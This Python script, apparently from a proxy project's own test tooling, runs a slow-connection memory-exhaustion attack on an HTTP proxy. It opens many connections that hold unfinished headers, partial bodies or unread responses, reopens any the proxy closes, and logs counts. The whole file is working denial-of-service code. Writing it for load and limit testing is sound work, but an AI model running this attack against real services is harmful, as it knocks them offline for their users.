"""A memory attack on a proxy: ``python _attack.py HOST PORT CONNECTIONS SECONDS [KINDS]``.

Run inside the proxy's network namespace (nsenter), outside its container, so the attacker's
own sockets and buffers are not charged to the proxy's memory limit. It keeps CONNECTIONS
connections open for SECONDS, as many of each kind (KINDS: a comma-separated subset of
head,body,read; all three by default), each made to hold as much proxy memory
as the default limits allow, and opens another one as soon as the proxy closes one:

- head: a request head of about 58 KiB (under limits.max_header_bytes) without its end;
- body: a 58 KiB head, then 64,000 of the 65,536 body bytes it announces (under
  limits.request_buffer_bytes: the proxy buffers it whole before going upstream), then nothing;
- read: a 58 KiB head and a whole 64 KiB body for a 64 KiB response (which the proxy reads
  whole, limits.response_buffer_bytes), on a socket with a 4 KiB receive buffer that is never
  read, so the response stays in the proxy.

Prints one JSON line a second: ``{"open": {...}, "opened": N, "closed": N, "seconds": S}``.
"""

from __future__ import annotations

import asyncio
import json
import resource
import socket
import sys
import time
from collections import Counter

HEADERS = b"".join(b"X-Pad-%02d: %s\r\n" % (i, b"p" * 640) for i in range(90))  # 58.5 KiB
HEAD = b"GET /attack HTTP/1.1\r\nHost: attack.test\r\n" + HEADERS  # no blank line: unfinished
BODY_HEAD = (
    b"POST /upload HTTP/1.1\r\nHost: attack.test\r\nContent-Length: 65536\r\n" + HEADERS + b"\r\n"
)
READ_REQUEST = (
    b"POST /big HTTP/1.1\r\nHost: attack.test\r\nContent-Length: 65536\r\n"
    + HEADERS
    + b"\r\n"
    + b"b" * 65536
)
KINDS = ("head", "body", "read")


class Attack:
    def __init__(self, host: str, port: int, until: float) -> None:
        self.host, self.port, self.until = host, port, until
        self.open: Counter[str] = Counter()
        self.opened = self.closed = 0

    async def connect(self, kind: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if kind == "read":  # before connect: the window the proxy sees stays small
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        try:
            await asyncio.get_running_loop().sock_connect(sock, (self.host, self.port))
        except BaseException:
            sock.close()
            raise
        return await asyncio.open_connection(sock=sock, limit=1 << 20)

    async def slot(self, kind: str) -> None:
        """One connection of ``kind`` at a time, reopened whenever the proxy closes it."""
        while time.monotonic() < self.until:
            try:
                reader, writer = await asyncio.wait_for(self.connect(kind), 30)
            except (TimeoutError, OSError):
                await asyncio.sleep(0.5)  # refused or backlog full: try again soon
                continue
            self.opened += 1
            self.open[kind] += 1
            try:
                await self.hold(kind, reader, writer)
            except (TimeoutError, OSError):
                pass
            finally:
                self.open[kind] -= 1
                self.closed += 1
                writer.transport.abort()

    async def hold(
        self, kind: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        if kind == "head":
            writer.write(HEAD)
        elif kind == "body":
            writer.write(BODY_HEAD + b"b" * 64000)
        else:
            writer.write(READ_REQUEST)
        await writer.drain()
        left = self.until - time.monotonic()
        if kind == "read":  # never read: the response must stay in the proxy
            await asyncio.sleep(max(0.0, left))
            return
        # Read only to see the proxy close (a 408, or a reset).
        while await asyncio.wait_for(reader.read(4096), max(0.1, left)):
            pass

    async def report(self, started: float) -> None:
        while time.monotonic() < self.until:
            line = {
                "open": dict(self.open),
                "opened": self.opened,
                "closed": self.closed,
                "seconds": round(time.monotonic() - started, 1),
            }
            print(json.dumps(line), flush=True)
            await asyncio.sleep(1)


async def main(host: str, port: int, connections: int, seconds: float, kinds: list[str]) -> None:
    started = time.monotonic()
    attack = Attack(host, port, started + seconds)
    tasks = [asyncio.create_task(attack.report(started))]
    for i in range(connections):
        tasks.append(asyncio.create_task(attack.slot(kinds[i % len(kinds)])))
        if i % 50 == 49:
            await asyncio.sleep(0.05)  # a ramp, not one SYN flood the backlog drops
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    address, port, count, seconds = sys.argv[1:5]
    kinds = sys.argv[5].split(",") if len(sys.argv) > 5 else list(KINDS)
    asyncio.run(main(address, int(port), int(count), float(seconds), kinds))
